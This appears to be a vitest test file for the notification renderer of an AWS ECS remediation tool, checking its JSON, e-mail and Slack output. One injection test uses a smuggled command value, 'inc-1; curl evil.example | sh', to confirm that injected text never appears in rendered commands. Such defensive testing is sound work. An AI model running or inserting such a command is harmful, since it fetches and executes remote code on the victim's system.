import * as v from 'valibot';
import { describe, expect, it } from 'vitest';
import type { ControlNotice } from '../../shared/control/controls.ts';
import { publishedControl, publishesAllNews } from '../../shared/notification/render/published-control.ts';
import { readMessage } from '../../shared/notification/render/read-message.ts';
import { render } from '../../shared/notification/render/render.ts';
import { renderControl } from '../../shared/notification/render/render-control.ts';
import { renderSlackControl } from '../../shared/notification/render/render-slack-control.ts';
import { installed, notices, paused } from '../fixtures/control.ts';
import { incidentOf, notificationOf } from '../fixtures/incident.ts';

/** What Slack is sent about a notice, as it was published. */
function slackOf(notice: ControlNotice) {
  const read = readMessage(renderControl(notice, paused, installed).json);
  if (read.is !== 'control') throw new Error('it was not read as a message about a control');
  return renderSlackControl(read.control);
}

describe.each(notices)('a message about a control ($news.is)', (notice) => {
  const message = renderControl(notice, paused, installed);

  it('has the JSON that the schema says, with nothing left out, and is read as such', () => {
    const json: unknown = JSON.parse(message.json);
    expect(v.parse(publishedControl, json)).toStrictEqual(json);
    expect(json).toMatchObject({ kind: 'control', id: notice.id, at: notice.at, mode: 'dry-run', news: notice.news });
    expect(readMessage(message.json)).toStrictEqual({ is: 'control', control: json });
    expect(publishesAllNews).toBe(true);
  });

  it('leaves the breaking of lines to the mail client', () => {
    const { says, inForce } = JSON.parse(message.json);
    expect(message.text.split('\n')).toEqual(
      expect.arrayContaining([says, `In force: ${inForce}`, 'When: 2026-11-23 10:00 UTC']),
    );
  });

  it('says in Slack what the e-mail says: what happened, the mode in force, and what to do next', () => {
    const { says, inForce, steps } = JSON.parse(message.json);
    const flat = (text: string) => text.replaceAll('`', '').replaceAll(/\s+/g, ' ');
    const slack = flat(
      JSON.parse(JSON.stringify(slackOf(notice).blocks.flatMap((block) => Object.values(block))))
        .map(shown)
        .join(' '),
    );
    for (const text of [says, `In force: ${inForce}`]) expect(flat(message.text)).toContain(text);
    for (const text of [says, `*In force* ${inForce}`]) expect(slack).toContain(text);
    expect(steps.length).toBeGreaterThan(1);
    for (const { label, command } of steps) expect(slack).toContain(`*${label}* ${flat(command)}`);
  });
});

function shown(part: unknown): string {
  return typeof part === 'object' && part !== null && 'text' in part ? String(part.text) : '';
}

describe('a message about a control', () => {
  // With a type, Systems Manager would create a parameter that is not there, and report success.
  it('stops only the parameter that is there: a wrong name or Region is refused', () => {
    const commands = notices.flatMap((notice): readonly string[] => {
      const { steps } = JSON.parse(renderControl(notice, paused, installed).json);
      return steps.map(({ command }: { command: string }) => command);
    });
    const off = commands.filter((command) => command.includes('put-parameter'));
    expect(new Set(off)).toEqual(
      new Set([
        "aws ssm put-parameter --overwrite --value off \\\n    --name '/EcsInitRemediator/mode' \\\n    --region 'us-east-2'",
      ]),
    );
  });

  it('stays small, whatever number of targets a person has let be changed again', () => {
    const targets = Array.from({ length: 3000 }, (_, index) => `target-${index}-${'x'.repeat(500)}`);
    const notice: ControlNotice = {
      id: 'control-1-restored',
      at: '2026-11-23T10:00:00.000Z',
      news: { is: 'restored', by: 'arn:aws:iam::111122223333:user/ann', incident: 'inc-1', targets },
    };
    const { json } = renderControl(notice, paused, installed);
    expect(json.length).toBeLessThan(90_000);
    expect(slackOf(notice).blocks.length).toBeLessThanOrEqual(50);
  });

  it('shows no command whose words somebody else has written', () => {
    const incident = 'inc-1; curl evil.example | sh';
    const notice: ControlNotice = {
      id: 'control-1-braked',
      at: '2026-11-23T10:00:00.000Z',
      news: { is: 'braked', ineffective: 2, incident },
    };
    const { text, chat, json } = renderControl(notice, paused, installed);
    expect([text, chat, json].join('\n')).not.toContain('show inc-1');
    expect(text).toContain('npx ecs-init-remediator resume');
  });

  it('is told from one about an incident, which has no kind', () => {
    expect(readMessage(render(notificationOf('found', incidentOf())).json)).toMatchObject({ is: 'incident' });
  });

  it.each([
    ['not json hunter2', /it is not JSON$/],
    ['{"kind":"control","id":"hunter2"}', /schema is missing or of another form$/],
    ['{"kind":["hunter2"]}', /kind is missing or of another form$/],
    ['"hunter2"', /the whole is missing or of another form$/],
  ])('that is none is refused, and nothing of it repeated: %s', (text, why) => {
    expect(() => readMessage(text)).toThrow(why);
    expect(() => readMessage(text)).not.toThrow(/hunter2/);
  });

  it('names the account by its alias, where it has one', () => {
    const [notice] = notices;
    if (notice === undefined) throw new Error('no notice');
    const { subject, text, chat, json } = renderControl(notice, paused, { ...installed, alias: 'prod' });
    expect(subject).toBe('[FYI] ecs-init-remediator (prod us-east-2): mode off, it was apply');
    expect(text).toContain('In prod (111122223333), us-east-2.');
    expect(chat).toContain('In prod (111122223333), us-east-2.');
    expect(JSON.parse(json)).toMatchObject({ accountAlias: 'prod', urgency: 'fyi' });
    const read = readMessage(json);
    expect(JSON.stringify(read.is === 'control' && renderSlackControl(read.control))).toContain('prod (111122223333)');
  });

  it('asks for a person where the product stopped itself, has no mode, or leaves tasks unexamined', () => {
    const acts = notices.filter(
      (notice) => JSON.parse(renderControl(notice, paused, installed).json).urgency === 'act',
    );
    expect(acts.map(({ id }) => id)).toEqual(['control-2-mode-changed', 'control-5-braked', 'control-11-capped']);
    for (const notice of acts)
      expect(renderControl(notice, paused, installed).text).toMatch(/^ACTION NEEDED: [^]*^ {2}\S/m);
  });
});
